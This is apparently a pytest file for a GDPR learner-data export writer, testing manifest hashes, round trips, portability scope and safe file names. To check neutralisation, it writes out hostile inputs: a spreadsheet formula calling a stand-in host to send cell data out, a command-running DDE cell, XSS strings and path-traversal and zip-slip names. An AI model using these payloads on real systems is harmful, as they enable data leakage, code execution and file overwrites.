"""The streaming package writer: files, manifest hashes, round trip, scopes, safe names."""

from __future__ import annotations

import collections
import csv
import datetime as dt
import gc
import hashlib
import io
import json
import weakref
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings

from learnprivacy import records as rec
from learnprivacy.basis import LawfulBasis
from learnprivacy.errors import ConfigurationError, IntegrityError, ProviderError, ValidationError
from learnprivacy.export import PackageWriter, read_package
from learnprivacy.export._names import check_entry_name
from learnprivacy.providers.writer import DataDescription
from learnprivacy.testing.strategies import records_of_learner
from tests import NOW, PageReader, sample

UTC = dt.UTC
T0 = dt.datetime(2025, 3, 14, 9, 30, tzinfo=UTC)


def _writer(root: Path, subject: str = "L1", **options: Any) -> PackageWriter:
    return PackageWriter(
        root, subject_id=subject, subject_reference="p1_ref", xapi_actor="p1_actor", **options
    )


def _learner(learner_id: str = "L1", **overrides: Any) -> rec.Learner:
    values: dict[str, Any] = {
        "id": learner_id,
        "username": "ana",
        "email": "ana@example.org",
        "given_name": "Ana",
        "family_name": "Martin",
        "created_at": T0,
    }
    values.update(overrides)
    return rec.Learner(**values)


def _progress(i: int, learner_id: str = "L1", **overrides: Any) -> rec.Progress:
    values: dict[str, Any] = {
        "id": f"P{i}",
        "learner_id": learner_id,
        "course_id": f"C{i % 7}",
        "status": rec.ProgressStatus.PASSED,
        "recorded_at": T0 + dt.timedelta(minutes=i),
        "score": rec.Score(raw=i % 21, min=0, max=20),
    }
    values.update(overrides)
    return rec.Progress(**values)


def _everything(learner_id: str = "L1") -> list[Any]:
    return [
        _learner(learner_id),
        _progress(1, learner_id),
        sample(rec.Certificate, learner_id=learner_id, issued_at=T0, verification_code="ABCD2345"),
        sample(
            rec.Invoice,
            id="INV1",
            learner_id=learner_id,
            billing_name="Ana Martin",
            billing_address="1 rue de la Paix, 75002 Paris",
            issued_at=T0,
        ),
        sample(rec.Funding, learner_id=learner_id, dossier_reference="OPCO-2025-17", opened_at=T0),
        sample(rec.Consent, learner_id=learner_id, given_at=T0),
        sample(rec.AccessEvent, learner_id=learner_id, at=T0, ip="192.0.2.7"),
    ]


def _files_on_disk(root: Path) -> set[str]:
    return {p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file()}


def test_manifest_lists_every_file_with_its_sha256(tmp_path: Path) -> None:
    """Every file but the manifest is listed once, with the SHA-256 of its bytes and counts."""
    root = tmp_path / "pkg"
    writer = _writer(root)
    writer.write_records("core", _everything())
    manifest = writer.finish(NOW)
    listed = {entry["path"]: entry for entry in manifest["files"]}
    assert _files_on_disk(root) == set(listed) | {"manifest.json"}
    for path, entry in listed.items():
        data = (root / path).read_bytes()
        assert entry["sha256"] == hashlib.sha256(data).hexdigest()
        assert entry["bytes"] == len(data)
    assert listed["data/core/Progress.json"]["records"] == 1
    assert listed["csv/Invoice.csv"]["records"] == 1
    assert listed["xapi/statements.json"]["records"] == 2  # one progress, one certificate
    assert json.loads((root / "manifest.json").read_text("utf-8")) == manifest
    assert manifest["generated_at"] == "2026-06-15T12:00:00+00:00"
    assert manifest["subject"] == {"pseudonym": "p1_ref"}
    assert manifest["scope"] == "access"
    assert not (root / ".staging").exists()


def test_read_package_detects_an_altered_file(tmp_path: Path) -> None:
    """Changing one byte of a listed file, or adding an unlisted one, fails verification."""
    root = tmp_path / "pkg"
    writer = _writer(root)
    writer.write_records("core", _everything())
    writer.finish(NOW)
    read_package(root)  # intact: verifies
    target = root / "csv" / "Progress.csv"
    original = target.read_bytes()
    target.write_bytes(original.replace(b"passed", b"failed"))
    with pytest.raises(IntegrityError):
        read_package(root)
    target.write_bytes(original)
    (root / "extra.txt").write_text("not listed")
    with pytest.raises(IntegrityError):
        read_package(root)


@settings(
    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(records_of_learner(max_each=3))
def test_json_round_trip_gives_equal_records(
    tmp_path_factory: pytest.TempPathFactory, drawn: tuple[rec.Learner, list[Any]]
) -> None:
    """Reading the package back with from_json_dict yields records equal to those written."""
    learner, records = drawn
    root = tmp_path_factory.mktemp("rt") / "pkg"
    writer = _writer(root, subject=learner.id)
    written = [learner, *records]
    writer.write_records("learnprivacy", written)
    writer.finish(NOW)
    back = read_package(root).records()

    def key(record: Any) -> tuple[str, str]:
        return type(record).__name__, record.id

    assert sorted(back, key=key) == sorted(written, key=key)


def test_rows_of_a_registered_type_are_read_back_typed(tmp_path: Path) -> None:
    """A provider writing to_json_dict rows of Progress gets the same typed file and xAPI."""
    from learnprivacy.records import to_json_dict

    root = tmp_path / "pkg"
    writer = _writer(root)
    record = _progress(3)
    writer.write_rows("mod_quiz", "Progress", [to_json_dict(record)])
    writer.finish(NOW)
    package = read_package(root)
    assert package.records() == [record]
    assert len(package.statements()) == 1


def test_portability_keeps_consent_and_contract_data_only(tmp_path: Path) -> None:
    """Art. 20 export: no invoice, funder file or security log; they are counted as excluded."""
    root = tmp_path / "pkg"
    writer = _writer(root, scope="portability")
    kept = writer.write_records("core", _everything())
    assert kept == 4  # learner, progress, certificate, consent
    manifest = writer.finish(NOW)
    types = {t["record_type"]: t for t in manifest["record_types"]}
    assert types["Invoice"]["records"] == 0
    assert types["Invoice"]["excluded_by_scope"] == 1
    assert types["Funding"]["excluded_by_scope"] == 1
    assert types["AccessEvent"]["excluded_by_scope"] == 1
    paths = {entry["path"] for entry in manifest["files"]}
    assert not any("Invoice" in p or "Funding" in p or "AccessEvent" in p for p in paths)
    assert "data/core/Consent.json" in paths
    back = read_package(root).records()
    assert {type(r).__name__ for r in back} == {"Learner", "Progress", "Certificate", "Consent"}
    assert all(r.basis.portable for r in back)
    assert manifest["gdpr_article"] == "Art. 20"


def test_portability_uses_row_basis_then_description_basis(tmp_path: Path) -> None:
    """Provider rows: their own ``basis`` decides, else the description's; unknown is left out."""
    root = tmp_path / "pkg"
    writer = _writer(root, scope="portability")
    writer.describe(
        DataDescription(
            component="mod_forum",
            record_type="posts",
            description="Forum posts",
            purpose="discussion",
            basis=LawfulBasis.CONTRACT,
        )
    )
    rows = [
        {"id": "1", "text": "described basis"},
        {"id": "2", "text": "own basis", "basis": "legal_obligation"},
        {"id": "3", "text": "moodle code", "basis": "gdpr_art_6_1_a"},
        {"id": "4", "text": "unreadable basis", "basis": "whatever"},
    ]
    assert writer.write_rows("mod_forum", "posts", rows) == 2
    assert writer.write_rows("mod_other", "things", [{"id": "5"}]) == 0  # no basis at all
    writer.finish(NOW)
    kept = [row["id"] for row in read_package(root).rows()]
    assert kept == ["1", "3"]


def test_a_record_of_another_learner_is_refused(tmp_path: Path) -> None:
    """A provider writing someone else's data into this export raises ProviderError."""
    writer = _writer(tmp_path / "pkg")
    with pytest.raises(ProviderError) as caught:
        writer.write_records("mod_leaky", [_progress(1, learner_id="L2")])
    assert caught.value.component == "mod_leaky"
    assert "L2" not in str(caught.value)
    with pytest.raises(ProviderError):
        writer.write_rows("mod_leaky", "posts", [{"learner_id": "L2", "text": "x"}])


def test_provider_names_cannot_escape_the_package(tmp_path: Path) -> None:
    """Hostile component and record-type names become safe segments inside the package."""
    root = tmp_path / "area" / "pkg"
    writer = _writer(root)
    hostile = [
        ("../../etc", "passwd"),
        ("/abs", "/root/.ssh"),
        ("C:\\Windows", "..\\..\\boot"),
        ("ok", ".."),
        ("ok", "."),
        ("Ünï/cödé", "CON"),
        ("a/b", "x"),
        ("a_b", "x"),
    ]
    for component, record_type in hostile:
        writer.write_rows(component, record_type, [{"v": f"{component}|{record_type}"}])
    manifest = writer.finish(NOW)
    outside = {p for p in (tmp_path / "area").rglob("*") if root not in (p, *p.parents)}
    assert outside == set()
    paths = [entry["path"] for entry in manifest["files"]]
    assert len(paths) == len({p.lower() for p in paths})
    for path in paths:
        assert check_entry_name(path) == path
        assert (root / path).resolve().is_relative_to(root.resolve())
    # Every row is still there, each in its own file.
    values = sorted(row["v"] for row in read_package(root).rows())
    assert values == sorted(f"{c}|{t}" for c, t in hostile)
    assert "data/ok/records.json" in paths  # ".." and "." fall back to a neutral name
    assert "data/uni_code/_CON.json" in paths  # accents folded, device name defused


def test_formats_select_the_files(tmp_path: Path) -> None:
    """Only the chosen formats are written; an unknown format is a configuration error."""
    root = tmp_path / "pkg"
    writer = _writer(root, formats=("csv",))
    writer.write_records("core", _everything())
    manifest = writer.finish(NOW)
    assert {entry["path"].split("/")[0] for entry in manifest["files"]} == {"csv"}
    with pytest.raises(ConfigurationError):
        _writer(tmp_path / "other", formats=("json", "pdf"))


def test_writes_after_finish_are_refused(tmp_path: Path) -> None:
    """A finished package takes no more rows."""
    writer = _writer(tmp_path / "pkg")
    writer.finish(NOW)
    with pytest.raises(ConfigurationError):
        writer.write_records("core", [_learner()])


# -- streaming ------------------------------------------------------------------------


def test_rows_are_consumed_one_at_a_time_and_not_kept(tmp_path: Path) -> None:
    """The writer handles each record as it is produced and keeps no reference to it.

    The generator checks, before producing record i, that the writer has already taken
    the i records before it (it does not collect the iterable first), and weak references
    show that no written record is still alive afterwards (nothing accumulated).
    """
    writer = _writer(tmp_path / "pkg")
    refs: list[weakref.ref[rec.Progress]] = []
    count = 2_000

    def produce() -> Iterator[rec.Progress]:
        for i in range(count):
            assert writer.seen == i
            record = _progress(i, time_spent=dt.timedelta(seconds=i))
            refs.append(weakref.ref(record))
            yield record
            del record

    assert writer.write_records("core", produce()) == count
    gc.collect()
    alive = sum(1 for ref in refs if ref() is not None)
    assert alive <= 1
    manifest = writer.finish(NOW)
    entry = next(e for e in manifest["files"] if e["path"] == "data/core/Progress.json")
    assert entry["records"] == count


def test_many_record_types_do_not_exhaust_file_descriptors(tmp_path: Path) -> None:
    """Interleaved rows of 100 kinds (more than the open-file cap) all land in their files."""
    writer = _writer(tmp_path / "pkg")
    for round_ in range(3):
        for kind in range(100):
            writer.write_rows("mod_many", f"kind{kind}", [{"kind": kind, "round": round_}])
    manifest = writer.finish(NOW)
    counts = collections.Counter(
        e["records"] for e in manifest["files"] if e["path"].startswith("data/")
    )
    assert counts == {3: 100}


# -- CSV ------------------------------------------------------------------------------


def _csv(root: Path, name: str) -> list[list[str]]:
    text = (root / "csv" / name).read_bytes().decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_cells_are_formula_injection_safe(tmp_path: Path) -> None:
    """Cells starting with = + - @ tab or CR get a leading quote; plain numbers do not."""
    root = tmp_path / "pkg"
    writer = _writer(root)
    hostile = {
        "eq": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "plus": "+33 6 12 34 56 78",
        "minus": "-2+3+cmd|' /C calc'!A0",
        "at": "@SUM(A1:A9)",
        "tab": "\t=1+1",
        "cr": "\r=1+1",
        "neg_text": "-12.5",
        "pos_text": "+3",
        "sci": "-1.5e3",
        "neg_float": -12.5,
        "neg_int": -7,
        "safe": "Ana = Ana",
    }
    writer.write_rows("mod_forum", "posts", [{"learner_id": "L1", "basis": "contract", **hostile}])
    writer.write_rows("mod_forum", "posts", [{"=cmd()": "header injection"}])
    writer.write_records("core", [_learner(given_name="=1+2", family_name="@risky")])
    writer.finish(NOW)
    header, row, *_ = _csv(root, "posts.csv")
    cells = dict(zip(header, row, strict=True))
    assert cells["eq"] == "'" + hostile["eq"]
    assert cells["plus"] == "'+33 6 12 34 56 78"
    assert cells["minus"] == "'" + hostile["minus"]
    assert cells["at"] == "'@SUM(A1:A9)"
    assert cells["tab"] == "'\t=1+1"
    assert cells["cr"] == "'\r=1+1"
    assert cells["neg_text"] == "-12.5"
    assert cells["pos_text"] == "+3"
    assert cells["sci"] == "-1.5e3"
    assert cells["neg_float"] == "-12.5"
    assert cells["neg_int"] == "-7"
    assert cells["safe"] == "Ana = Ana"
    assert "'=cmd()" in header
    learner_header, learner_row = _csv(root, "Learner.csv")
    learner = dict(zip(learner_header, learner_row, strict=True))
    assert learner["given_name"] == "'=1+2"
    assert learner["family_name"] == "'@risky"
    # The JSON keeps the exact values: only the CSV is neutralised.
    rows = read_package(root).rows(record_type="posts")
    assert rows[0]["eq"] == hostile["eq"]


def test_csv_is_rfc_4180_with_optional_bom(tmp_path: Path) -> None:
    """CRLF line ends, quotes doubled, commas and line breaks quoted; BOM only on request."""
    for bom in (False, True):
        root = tmp_path / f"pkg{bom}"
        writer = _writer(root, csv_bom=bom)
        writer.write_rows(
            "mod_forum",
            "posts",
            [{"text": 'say "hi", then\nleave', "n": 1}, {"text": "plain", "n": 2}],
        )
        writer.finish(NOW)
        raw = (root / "csv" / "posts.csv").read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf") is bom
        body = raw.removeprefix(b"\xef\xbb\xbf")
        assert body == b'text,n\r\n"say ""hi"", then\nleave",1\r\nplain,2\r\n'


def test_csv_header_covers_rows_with_differing_keys(tmp_path: Path) -> None:
    """Rows with extra or nested keys widen the header; missing cells are empty."""
    root = tmp_path / "pkg"
    writer = _writer(root)
    writer.write_rows(
        "mod_x",
        "things",
        [{"a": 1, "score": None}, {"a": 2, "b": "x", "score": {"raw": 3, "max": 4}}],
    )
    writer.finish(NOW)
    assert _csv(root, "things.csv") == [
        ["a", "b", "score.raw", "score.max"],
        ["1", "", "", ""],
        ["2", "x", "3", "4"],
    ]


# -- HTML -----------------------------------------------------------------------------


def test_index_html_escapes_everything_and_loads_nothing(tmp_path: Path) -> None:
    """Provider text and values are escaped; the page has no script and no external URL."""
    root = tmp_path / "pkg"
    writer = _writer(root)
    writer.describe(
        DataDescription(
            component="mod_<b>x</b>",
            record_type="notes",
            description="<script>alert('description')</script>",
            purpose='"><img src=x onerror=alert(1)>',
            basis=LawfulBasis.CONTRACT,
            retention="18 months after last activity",
            fields={"<i>body</i>": "<script>field</script>"},
        )
    )
    writer.write_rows("mod_<b>x</b>", "notes", [{"<i>body</i>": "<script>alert('value')</script>"}])
    writer.write_records("core", _everything())
    writer.finish(NOW)
    page = (root / "index.html").read_text("utf-8")
    parsed = PageReader(page)
    assert not parsed.tags & {"script", "img", "i", "b", "iframe", "link", "object"}
    assert not {name for name in parsed.attributes if name.startswith("on") or name == "src"}
    assert all(not h.startswith(("http:", "https:", "//", "/")) for h in parsed.hrefs)
    assert "<script>alert('value')</script>" in parsed.text
    assert "<script>alert('description')</script>" in parsed.text
    assert "http://" not in page
    assert "https://" not in page
    assert "18 months after last activity" in page
    assert "GDPR Art. 6(1)(b)" in page
    for entry in json.loads((root / "manifest.json").read_text("utf-8"))["files"]:
        if entry["path"] != "index.html":
            assert f'href="{entry["path"]}"' in page


def test_index_html_tells_what_portability_left_out(tmp_path: Path) -> None:
    """A portability page names the kinds of data not included and why."""
    root = tmp_path / "pkg"
    writer = _writer(root, scope="portability")
    writer.write_records("core", _everything())
    writer.finish(NOW)
    page = (root / "index.html").read_text("utf-8")
    assert "portability" in page
    assert "outside the portability scope" in page
    assert "Invoice" in page


@pytest.mark.parametrize("evil", ["../evil.txt", "/etc/passwd", "data/../../x", "C:/x", "a\\..\\b"])
def test_read_package_refuses_unsafe_entry_names(tmp_path: Path, evil: str) -> None:
    """A zip naming an entry outside the package (zip slip) is refused, listed or not."""
    manifest = {"schema_version": "1.0", "files": [{"path": evil, "sha256": "0" * 64}]}
    for listed in (True, False):
        archive = tmp_path / f"evil-{listed}.zip"
        with zipfile.ZipFile(archive, "w") as zf:
            zf.writestr("manifest.json", json.dumps(manifest if listed else {"files": []}))
            zf.writestr(evil, "payload")
        with pytest.raises(IntegrityError):
            read_package(archive)


def test_package_rows_for_notebooks(tmp_path: Path) -> None:
    """A package reads back as flat rows and, with pandas, as one data frame."""
    root = tmp_path / "pkg"
    writer = _writer(root)
    writer.write_records("core", _everything())
    writer.finish(NOW)
    package = read_package(root)
    rows = package.to_records()
    assert len(rows) == len(_everything())
    progress = next(r for r in rows if r["_record_type"] == "Progress")
    assert progress["score.scaled"] == pytest.approx(0.05)
    pytest.importorskip("pandas")
    frame = package.to_dataframe()
    assert len(frame) == len(rows)
    assert set(frame["_record_type"]) == {type(r).__name__ for r in _everything()}


def test_a_time_without_zone_is_refused_before_any_row(tmp_path: Path) -> None:
    """A naive ``now`` is refused when the writer is made: it used to make every record
    look undatable, so the package silently held no xAPI statement at all."""
    with pytest.raises(ValidationError):
        PackageWriter(
            tmp_path / "p",
            subject_id="L1",
            subject_reference="p1_ref",
            xapi_actor="p1_a",
            now=dt.datetime(2026, 1, 1),
        )


def test_a_lone_surrogate_is_a_typed_error_naming_no_value(tmp_path: Path) -> None:
    """``"\\ud800"`` in a JSON file reads as a lone surrogate, which UTF-8 cannot hold. A
    provider row holding one raised ``UnicodeEncodeError``, whose ``object`` is the whole
    value (records refuse such text when they are made)."""
    writer = _writer(tmp_path / "p")
    with pytest.raises(ValidationError) as caught:
        writer.write_rows("lms", "Note", [{"learner_id": "L1", "text": "Ana \ud800 Martin"}])
    assert caught.value.field == "export.row"
    assert "Ana" not in str(caught.value)
    assert caught.value.__suppress_context__


def test_a_row_naming_one_csv_column_twice_is_refused(tmp_path: Path) -> None:
    """``{"score.raw": 5, "score": {"raw": 7}}`` flattens to two ``score.raw`` cells: the
    CSV file kept one of them and the export completed without the other."""
    writer = _writer(tmp_path / "p")
    row = {"learner_id": "L1", "score.raw": 5, "score": {"raw": 7}}
    with pytest.raises(ValidationError) as caught:
        writer.write_rows("lms", "Quiz", [row])
    assert caught.value.field == "export.row"
    writer.write_rows("lms", "Quiz", [{"learner_id": "L1", "score.raw": 5, "score": {"max": 7}}])


def test_checks_still_run_for_every_record_once_its_stream_is_known(tmp_path: Path) -> None:
    """A record's stream and class facts are looked up once, its checks are not: a later
    record of another learner still fails the export, and in a portability export a later
    record held under a legal obligation is still left out, each component in its own
    stream."""
    writer = _writer(tmp_path / "p")
    writer.write_records("a", [_progress(1)])
    writer.write_records("b", [_progress(2)])
    with pytest.raises(ProviderError):
        writer.write_records("a", [_progress(3), _progress(4, "L2")])
    writer.abandon()

    portable = _writer(tmp_path / "q", scope="portability")
    kept = portable.write_records("a", [_progress(1), _progress(2)])
    legal = _progress(3, basis=LawfulBasis.LEGAL_OBLIGATION)
    assert portable.write_records("a", [legal, _progress(4)]) == 1
    portable.write_records("b", [_progress(5)])
    manifest = portable.finish(NOW)
    counts = {(t["component"], t["record_type"]): t for t in manifest["record_types"]}
    assert kept == 2
    assert counts[("a", "Progress")]["records"] == 3
    assert counts[("a", "Progress")]["excluded_by_scope"] == 1
    assert counts[("b", "Progress")]["records"] == 1
    data = json.loads((tmp_path / "q" / "data" / "a" / "Progress.json").read_text("utf-8"))
    assert [row["id"] for row in data["records"]] == ["P1", "P2", "P4"]
